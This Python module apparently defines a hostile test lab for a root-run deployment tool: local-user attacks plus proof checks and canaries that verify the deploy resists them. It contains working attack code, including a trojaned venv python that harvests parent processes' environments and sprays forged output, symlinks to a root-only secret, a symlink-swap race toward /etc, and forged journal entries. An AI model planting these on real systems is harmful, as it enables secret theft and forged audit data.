"""The hostile host's attackers: what local users of ``lab-hostile`` do, on purpose, to the
deploy's root, the compliance suite and a rollout, and the canaries that must survive them.

Pure data (shell text run on the host as root, which drops to the attacking user itself), so
that a concern adds its user-controlled inputs by adding an :class:`Attack` to
:data:`ATTACKS`; tests/converge/test_hostile_lab.py arms every one of them after a clean
converge, plays the deploy, the suite and a rollout batch against them, and checks each
attack's ``proof`` and the :data:`CANARIES`. docs/security.md says what the host plays and
what it does not.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass

VENV = "/opt/sparkrig/venv"
# The venv's owner: an ordinary user without sudo, who attacks from the venv it owns.
VENV_OWNER = "sparkrig-mallory"
LOOT = f"/home/{VENV_OWNER}/loot"
# A root-only file every attacker tries to read, remove or overwrite through root.
SECRET = "/root/sparkrig-canary"
SECRET_LINE = "SPARKRIG-HOSTILE-CANARY-SECRET"
# A package an admin held by hand (the deploy must neither release nor upgrade it).
HELD_BY_HAND = "busybox-static"
# Marks the venv's programs leave, one per uid they ran as: never root's, never the login user's.
RAN_AS = "/tmp/sparkrig-hostile-ran-as-"
# How long an attacker's leftover child or loop lives at most (a lab run is shorter).
LIFETIME_S = 3600


@dataclass(frozen=True)
class Attack:
    """One attacker: ``arm`` (root shell on the host) sets it up; ``proof`` (root shell)
    prints nothing while the attack failed, else one line per thing it achieved."""

    name: str
    concern: str
    what: str
    arm: str
    proof: str = "true"


# Run once before the first converge: the attacking users and the canaries.
PREPARE = f"""
id -u {VENV_OWNER} >/dev/null 2>&1 || useradd -m -s /bin/sh {VENV_OWNER}
install -d -o {VENV_OWNER} -m 0755 {LOOT}
printf '%s\\n' '{SECRET_LINE} sparkrig-cluster:x' > {SECRET} && chmod 600 {SECRET}
apt-mark hold {HELD_BY_HAND} >/dev/null
"""

# One line per canary: the test compares them before and after every play.
CANARIES = f"""
echo "secret $(sha256sum < {SECRET} | cut -c1-16) $(stat -c %a.%U.%h {SECRET})"
echo "held $(apt-mark showhold | tr '\\n' ' ')"
echo "held-version $(dpkg-query -W -f='${{Version}}' {HELD_BY_HAND})"
echo "kernel $(uname -r) $(cat /proc/sys/kernel/osrelease)"
echo "reboot-pending $(test -e /run/reboot-required && echo yes || echo no)"
"""

# The venv owner's bin/python: reads its parents' command lines and environments, looks for
# nonces there, writes forged fact lines (with each nonce, and raw) and terminal escapes to
# every descriptor it inherited, leaves a child that keeps doing so, then runs the real Python
# (so that whoever ran it sees nothing wrong).
_ATTACKER = f"""
import os, re, sys, time
uid = os.getuid()
open("{RAN_AS}%d" % uid, "a").close()
seen = []
pid = os.getppid()
for _ in range(16):
    for part in ("cmdline", "environ"):
        try:
            with open("/proc/%d/%s" % (pid, part), "rb") as f:
                seen.append(f.read().replace(b"\\0", b" "))
        except OSError:
            pass
    try:
        with open("/proc/%d/status" % pid) as f:
            pid = int(next(l for l in f if l.startswith("PPid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        break
    if pid <= 1:
        break
text = b"\\n".join(seen)
try:
    with open("{LOOT}/parents-%d-%d" % (uid, os.getpid()), "wb") as f:
        f.write(text)
except OSError:
    pass
nonces = sorted(set(re.findall(rb"@@([0-9a-zA-Z_-]{{6,}})", text) + re.findall(rb"\\b([0-9a-f]{{32}})\\b", text)))
forged = b"".join(
    b"@@%s end %d 0\\n@@%s err %d forged\\n%s:0:Zm9yZ2Vk:\\n" % (n, i, n, i, n) for n in nonces[:8] for i in range(24)
)
forged += (
    b"file {SECRET}\\nkeyowner root\\nfile 644 root root " + b"0" * 64 + b" /etc/passwd\\n"
    b"package ii 9:9 {HELD_BY_HAND}\\nunit active enabled sparkrig-forged.service\\n"
    b"\\x1b]0;sparkrig-hostile\\x07\\x1b[31mFORGED\\x1b[0m\\n"
)
fds = []
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    if fd != 0:
        fds.append(fd)
def spray():
    for fd in fds:
        try:
            os.write(fd, forged)
        except OSError:
            pass
spray()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + {LIFETIME_S}
        while time.monotonic() < end:
            spray()
            time.sleep(0.5)
    os._exit(0)
real = os.path.realpath("/usr/bin/python3")
os.execv(real, [real] + sys.argv[1:])
"""

_METADATA_BIG = 4 * 1024 * 1024
_HARD_LINKS = 2000

ATTACKS: tuple[Attack, ...] = (
    Attack(
        "venv-python",
        "python_stack",
        "the venv owner's bin/python reads its parents' command lines and environments, writes forged "
        "fact lines (with any nonce found) and terminal escapes to every inherited descriptor, and "
        "leaves a child doing so for an hour",
        f"""
cat > {LOOT}/attack.py <<'EOF'
{_ATTACKER}
EOF
chown {VENV_OWNER} {LOOT}/attack.py
runuser -u {VENV_OWNER} -- sh -c 'rm -f {VENV}/bin/python && \
printf "#!/bin/sh\\nexec /usr/bin/python3 -I {LOOT}/attack.py \\"\\$@\\"\\n" > {VENV}/bin/python && \
chmod 755 {VENV}/bin/python'
""",
        f'for f in {RAN_AS}*; do [ -e "$f" ] || continue; u=${{f#{RAN_AS}}}; '
        f'[ "$u" = "$(id -u {VENV_OWNER})" ] || echo "the venv\'s python ran as uid $u"; done',
    ),
    Attack(
        "venv-files",
        "python_stack",
        "the venv's files root reads: the lock a link to /dev/zero, a METADATA a sparse 1 TiB file, a "
        "direct_url.json a link to /dev/zero, "
        f"{_HARD_LINKS} dist-infos whose METADATA are hard links to one {_METADATA_BIG >> 20} MiB header, "
        "a METADATA linked to a root-only file, one a FIFO, names with newline, ESC and non-UTF-8 bytes",
        f"""
runuser -u {VENV_OWNER} -- sh -s <<'EOF'
set -e
cd {VENV}
rm -f sparkrig/requirements.lock && ln -s /dev/zero sparkrig/requirements.lock
site=$(echo lib/python3*/site-packages)
big=$site/.hostile-metadata
printf 'Metadata-Version: 2.1\\nName: hostile\\nVersion: 1\\nSummary: ' > $big
head -c {_METADATA_BIG - 64} /dev/zero | tr '\\0' A >> $big
i=0
while [ $i -lt {_HARD_LINKS} ]; do
  mkdir -p $site/zz_hostile_$i-1.0.dist-info && ln -f $big $site/zz_hostile_$i-1.0.dist-info/METADATA
  i=$((i+1))
done
mkdir -p $site/torch-6.6.6.dist-info && ln -sf {SECRET} $site/torch-6.6.6.dist-info/METADATA
mkdir -p $site/sparse-1.0.dist-info && truncate -s 1T $site/sparse-1.0.dist-info/METADATA
mkdir -p $site/zero-1.0.dist-info && printf 'Name: zero\\nVersion: 1\\n' > $site/zero-1.0.dist-info/METADATA
ln -sf /dev/zero $site/zero-1.0.dist-info/direct_url.json
mkdir -p $site/fifo-1.0.dist-info && rm -f $site/fifo-1.0.dist-info/METADATA && mkfifo $site/fifo-1.0.dist-info/METADATA
evil=$(printf '%s/evil\\n\\033[31m\\377-1.0.dist-info' "$site")
mkdir -p "$evil" && printf 'Name: evil\\033]0;pwned\\007\\nVersion: 1\\n\\n' > "$evil/METADATA"
EOF
""",
    ),
    Attack(
        "prometheus-swap",
        "metrics",
        "the prometheus user swaps /var/lib/prometheus/node-exporter for a link to /etc and back, in a loop",
        f"""
runuser -u prometheus -- setsid timeout {LIFETIME_S} sh -c ': sparkrig-hostile-swap; cd /var/lib/prometheus || exit 1
while :; do mv node-exporter ne.real 2>/dev/null; ln -sfn /etc node-exporter; sleep 0.02;
rm -f node-exporter; mv ne.real node-exporter 2>/dev/null; sleep 0.02; done' </dev/null >/dev/null 2>&1 &
""",
        "ls -d /etc/sparkrig.prom /etc/.sparkrig.prom.* 2>/dev/null",
    ),
    Attack(
        "journal-forgery",
        "updates",
        "the venv owner writes journal entries that look like the rollout's mark and a reboot target "
        "PID 1 reached (logger, and logger --journald with _PID=1, _UID=0 and _TRANSPORT=kernel of its "
        "own): how a boot ended (BootHistory) trusts only the fields journald sets",
        f"""
runuser -u {VENV_OWNER} -- sh -c 'logger -t sparkrig-rollout "reboot by sparkrig rollout"
logger -t systemd "Reached target reboot.target - System Reboot."
printf "MESSAGE=Reached target reboot.target\\nUNIT=reboot.target\\nJOB_TYPE=start\\nJOB_RESULT=done\\n\
_PID=1\\n_UID=0\\n_TRANSPORT=kernel\\nSYSLOG_IDENTIFIER=sparkrig-rollout\\n" | logger --journald'
journalctl --sync
""",
        # This boot never reached a shutdown target, and root logged no mark in it: any entry the
        # fact's filters let through is the attacker's.
        "journalctl -b 0 -q -o cat --output-fields=UNIT _PID=1 _UID=0 JOB_TYPE=start JOB_RESULT=done "
        "UNIT=reboot.target | sed 's/^/a reboot target passed the filters: /'; "
        "journalctl -b 0 -q -o cat --output-fields=SYSLOG_IDENTIFIER _UID=0 SYSLOG_IDENTIFIER=sparkrig-rollout "
        "| sed 's/^/a rollout mark passed the filters: /'",
    ),
    Attack(
        "venv-nccl",
        "cluster",
        "the venv owner installs an NCCL wheel's records (nvidia_nccl_cu13 .dist-info) whose "
        "libnccl.so.2 is a link to the root-only canary: root reads each NCCL library's sha256 and "
        "version line (the report, the suite's reading, a cluster's controls)",
        f"""
runuser -u {VENV_OWNER} -- sh -s <<'EOF'
set -e
cd {VENV}
site=$(echo lib/python3*/site-packages)
mkdir -p $site/nvidia_nccl_cu13-2.28.9.dist-info $site/nvidia/nccl/lib
printf 'Name: nvidia-nccl-cu13\\nVersion: 2.28.9\\n' > $site/nvidia_nccl_cu13-2.28.9.dist-info/METADATA
ln -sf {SECRET} $site/nvidia/nccl/lib/libnccl.so.2
EOF
""",
    ),
    Attack(
        "fwupd-names",
        "updates",
        "a STAND-IN fwupd (root's fwupdmgr in /usr/local/bin) reports devices whose names hold NUL and ESC",
        """
cat > /usr/local/bin/fwupdmgr <<'EOF'
#!/bin/sh
# STAND-IN fwupdmgr (lab/hostile.py): devices whose names a firmware or USB device chose.
case $1 in
get-devices) cat <<'JSON'
{"Devices": [
 {"Name": "GPU\\u0000Drained", "DeviceId": "0123456789abcdef0123456789abcdef01234567",
  "Guid": ["12345678-1234-1234-1234-123456789abc"], "Version": "1.0", "Plugin": "standin", "Flags": []},
 {"Name": "NIC \\u001b]0;pwned\\u0007\\u001b[31mred", "DeviceId": "1123456789abcdef0123456789abcdef01234567",
  "Guid": ["12345678-1234-1234-1234-123456789abd"], "Version": "2.0", "Plugin": "standin", "Flags": []}
]}
JSON
;;
*) echo '{"Devices": []}' ;;
esac
EOF
chmod 755 /usr/local/bin/fwupdmgr
""",
    ),
)


def arm_all() -> str:
    """Root shell arming every attack, each in its own subshell (one failing stops none)."""
    return "\n".join(f"( {attack.arm}\n) || echo 'hostile: arming {attack.name} failed' >&2" for attack in ATTACKS)


def proofs() -> str:
    """Root shell printing ``NAME: what it achieved`` for each attack that achieved something."""
    return "\n".join(
        f"( {attack.proof} ) 2>/dev/null | sed {shlex.quote(f's/^/{attack.name}: /')}" for attack in ATTACKS
    )


# Root shell stopping what the venv owner runs (its programs' leftovers), by the ids ps gives.
STOP_OWNER = f"for pid in $(ps -o pid= -u {VENV_OWNER}); do kill -KILL $pid 2>/dev/null; done; true"
# Root shell stopping every attacker's process (`lab down` ends the rest), and the prometheus
# user's directory put back.
DISARM = (
    STOP_OWNER
    + """
for pid in $(ps -o pid=,args= -u prometheus | awk '/sparkrig-hostile-swap/ { print $1 }'); do kill -KILL $pid; done
cd /var/lib/prometheus && if [ -L node-exporter ] || [ ! -e node-exporter ]; then
    rm -f node-exporter; mv ne.real node-exporter 2>/dev/null
fi
true
"""
)


def leftovers(user: str = VENV_OWNER) -> str:
    """Root shell listing the processes ``user`` still runs (pid and command)."""
    return f"ps -o pid=,args= -u {user} 2>/dev/null || true"
